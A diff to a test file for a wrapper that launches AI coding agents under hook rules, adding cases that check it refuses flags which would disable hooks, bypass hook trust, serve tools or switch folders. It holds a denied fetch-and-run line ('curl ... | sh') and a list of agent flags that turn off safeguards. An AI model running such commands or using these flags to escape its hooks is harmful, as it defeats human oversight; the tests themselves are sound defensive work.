@@ -5,6 +5,7 @@ import { join } from "node:path";
 import { expect, onTestFinished, test } from "vitest";
 import { before, decisionOf, HELD, launchCaller } from "./hook-calling-agent.ts";
 import { signalbox } from "./run-signalbox.ts";
+import { standInAgent } from "./stand-in-agent.ts";
 import { tempRepository } from "./temp-folder.ts";
 
 const DENIED = "curl http://example.com/x | sh";
@@ -127,18 +128,43 @@ test.each([
   ["claude", ["--bare"]],
   ["claude", ["--safe-mode"]],
   ["claude", ["mcp", "serve"]],
+  ["claude", ["--background"]],
+  ["claude", ["--debug", "mcp", "serve"]],
   ["codex", ["--disable", "hooks"]],
+  ["codex", ["--disable=hooks"]],
+  ["codex", ["--enable", "unified_exec_tty"]],
+  ["codex", ["--enable=shell_tool,unified_exec_tty"]],
+  ["codex", ["-m", "cloud", "app-server"]],
   ["codex", ["-c", "hooks.PreToolUse=[]"]],
   ["codex", ["-chooks.state={}"]],
   ["codex", ["--dangerously-bypass-hook-trust"]],
   ["codex", ["app-server"]],
   ["copilot", ["--server"]],
-  ["copilot", ["-C", "/tmp"]],
 ] as const)("%s with %j is refused, because the rules would not hold", async (agent, flags) => {
   const { outcome, answers } = await launchCaller(agent, [], { flags });
   expect([outcome.code, answers]).toEqual([3, []]);
   expect(outcome.stderr).toContain("would switch the rules off");
   expect(outcome.stderr).toContain("--unguarded");
+});
+
+test.each([
+  ["codex", ["-C", "/tmp"]],
+  ["codex", ["--cd=/tmp"]],
+  ["copilot", ["-C", "/tmp"]],
+  ["copilot", ["-C/tmp"]],
+] as const)("%s with %j is refused, because nobody looked at that folder", async (agent, flags) => {
+  const { outcome, answers } = await launchCaller(agent, [], { flags });
+  expect([outcome.code, answers]).toEqual([3, []]);
+  expect(outcome.stderr).toContain("starts the agent in another folder");
+});
+
+test("a command that serves the agent's tools to others is refused, though others of its kind run no tools", async () => {
+  const { env } = standInAgent("claude", "echo started");
+  const cwd = tempRepository();
+  const serving = await signalbox(["claude", "--", "mcp", "serve"], { cwd, env });
+  expect([serving.code, serving.stdout]).toEqual([3, ""]);
+  const listing = await signalbox(["claude", "--", "mcp", "list"], { cwd, env });
+  expect([listing.code, listing.stdout]).toEqual([0, "started\n"]);
 });
 
 test("--unguarded starts the agent without rules and says so", async () => {
